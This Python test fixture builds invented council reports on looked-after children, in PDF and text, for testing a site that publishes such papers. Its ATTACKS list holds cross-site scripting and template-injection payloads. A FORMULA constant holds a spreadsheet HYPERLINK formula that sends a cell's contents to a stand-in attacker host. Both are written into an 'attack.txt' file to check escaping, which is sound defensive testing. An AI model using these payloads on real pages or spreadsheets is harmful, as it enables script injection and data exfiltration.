"""The papers that the tests of the site publish: two invented councils over some years."""

from __future__ import annotations

from pathlib import Path

from fpdf import FPDF

ATTACKS = (
    "<script>window.attacked = 'script'</script>",
    "<img src=x onerror=\"window.attacked='img'\">",
    '"><svg onload="window.attacked=\'svg\'">',
    "{{ 7919 * 104729 }}{% raise %}",
    "javascript:window.attacked='url'",
    "</title></textarea></style><script>window.attacked='close'</script>",
)
"""What a document may hold to attack a page that shows its words."""

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"look")'


def sentences(council: str, year: int, number: int) -> list[str]:
    """What a council's report of a year says."""
    return [
        f"There were {number} looked after children in {council} at 31 March {year}, compared to "
        f"{number - 11} at 31 March {year - 1}.",
        f"This is a rate of {number / 8:.1f} per 10,000, compared to {60 + year % 10} nationally.",
        f"At 31 March {year}, {40 + year % 7}% of looked after children were placed outside the "
        "county, against a target of 38%.",
        f"In {year - 1}/{year % 100:02} initial health assessments were completed on time for "
        f"{60 + year % 9}% of children, against a target of 85%.",
        "In total 4 children were adopted in the year.",
    ]


def write_pdf(path: Path, council: str, year: int, number: int, title: str) -> None:
    """A report of one page, with a contact whose details are not to be published."""
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("Helvetica", "B", 14)
    pdf.multi_cell(0, 8, f"{council} County Council", new_x="LMARGIN", new_y="NEXT")
    pdf.multi_cell(0, 8, title, new_x="LMARGIN", new_y="NEXT")
    pdf.set_font("Helvetica", size=11)
    head = (
        "To: Children and Young People's Committee\n"
        f"Meeting Date: 14 June {year}\nAgenda Item: 7\n"
        f"Contact officer: Jo Sample, jo.sample@{council.lower()}.example.gov.uk, 01632 960 123"
    )
    pdf.multi_cell(0, 6, head, new_x="LMARGIN", new_y="NEXT")
    for position, sentence in enumerate(sentences(council, year, number), 1):
        pdf.ln(3)
        pdf.multi_cell(0, 6, f"1.{position} {sentence}", new_x="LMARGIN", new_y="NEXT")
    path.parent.mkdir(parents=True, exist_ok=True)
    pdf.output(str(path))


def write_text(path: Path, council: str, year: int, number: int, title: str) -> None:
    """The same as a text file."""
    body = "\n\n".join(f"1.{n} {s}" for n, s in enumerate(sentences(council, year, number), 1))
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(
        f"{council} County Council\n\n{title}\n\nTo: Children and Young People's Committee\n\n"
        f"Meeting Date: 14 June {year}\n\nContact: jo.sample@example.gov.uk\n\n{body}\n",
        encoding="utf-8",
    )


def write_papers(folder: Path) -> None:
    """Papers of two councils, one that attacks, and one that is not."""
    for year in range(2015, 2023):
        title = f"Corporate Parenting Annual Report {year - 1}/{year % 100:02}"
        write_pdf(folder / "exford" / f"{year}.pdf", "Exford", year, 300 + year % 100, title)
        if year != 2019:
            write_text(folder / "wyeland" / f"{year}.txt", "Wyeland", year, 500 + year % 50, title)
    attack = "\n\n".join(
        f"2.{n} In 2021 there were {400 + n} looked after children {text} in Exford."
        for n, text in enumerate(ATTACKS, 1)
    )
    (folder / "attack.txt").write_text(
        f"Exford County Council\n\nReport {ATTACKS[0]} {ATTACKS[3]}\n\n"
        f"Meeting Date: 1 July 2021\n\n2. BACKGROUND {ATTACKS[1]}\n\n{attack}\n\n"
        f"| Measure | 2020/21 |\n|---|---|\n| {FORMULA} children looked after | 388 |\n",
        encoding="utf-8",
    )
    (folder / "not a report.pdf").write_text("<html>Not found</html>", encoding="utf-8")
